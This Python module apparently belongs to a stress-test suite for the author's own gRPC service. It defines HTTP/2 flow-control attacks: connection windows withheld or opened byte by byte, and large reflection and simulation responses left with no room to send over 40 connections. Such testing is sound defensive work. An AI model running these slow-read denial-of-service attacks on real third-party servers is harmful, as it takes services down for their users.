"""Flow-control windows that are withheld, or opened byte by byte."""

from collections.abc import Iterator

from attack import FIRST, Attack, Burst, Bursts, End
from floods import STEP, sessions
from frames import costly
from greedy import LARGE, requests
from http2 import (
    LARGEST_WINDOW, PREFACE, SETTINGS_ACK, WINDOW_UPDATE, call, frame, message, settings,
)  # fmt: skip
from reflection.v1 import reflection_pb2
from slow_attacks import streams_of

REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# Its response has 174 KiB: all files of the contract.
SERVICE = "interaction.v1.InteractionService"
# The streams have windows, but the connection's is used up after the first few responses.
ROOMY_STREAMS = PREFACE + settings(_4=LARGEST_WINDOW) + SETTINGS_ACK
NO_ROOM = PREFACE + settings(_4=0) + SETTINGS_ACK
AT_ONCE = 50
STEP_FOR_ALL = frame(WINDOW_UPDATE, 0, 0, STEP)
# The limit is 5,000 WINDOW_UPDATEs a second, and 1,000 at once.
STEADY, STEADY_PAUSE = 90, 0.02
BURST, BURST_PAUSE = 940, 2
CALLS = 50


def waiting_sessions(number: int) -> Iterator[Burst]:
    """Yields sessions: twenty fill the connection; the others' first frames wait for the window."""
    for first in range(FIRST, FIRST + 2 * number, 2 * AT_ONCE):
        yield sessions(range(first, first + 2 * AT_ONCE, 2))


def woken(sessions: int, steps: int, pause: float) -> Bursts:
    """Yields sessions that wait for the connection's window, which opens byte by byte."""

    def bursts() -> Iterator[Burst]:
        yield from waiting_sessions(sessions)
        while True:
            yield Burst(STEP_FOR_ALL * steps, pause=pause)

    return bursts


def reflections() -> Iterator[Burst]:
    """Yields calls with the largest responses of reflection, which stay open."""
    request = reflection_pb2.ServerReflectionRequest(file_containing_symbol=SERVICE)
    for stream in streams_of(CALLS):
        asked = message(stream, request)
        yield Burst(call(stream, REFLECTION) + asked, len(asked) - 9)


ATTACKS = [
    Attack("1000 calls that wait for room, byte by byte",
           woken(1_000, STEADY, STEADY_PAUSE), greeting=ROOMY_STREAMS, end=End.NOTHING, lasts=9,
           is_alone=True),
    Attack("500 calls that wait for room, in bursts",
           woken(500, BURST, BURST_PAUSE), greeting=ROOMY_STREAMS, end=End.NOTHING, lasts=7,
           is_alone=True),
    Attack("answers of reflection for which 40 connections have no room", reflections,
           greeting=NO_ROOM, end=End.NOTHING, connections=40, pause=0.08, lasts=5),
    Attack("answers of simulations for which 40 connections have no room",
           lambda: requests(costly(LARGE)), greeting=NO_ROOM, end=End.NOTHING, connections=40,
           pause=1, lasts=60, long=True),
]
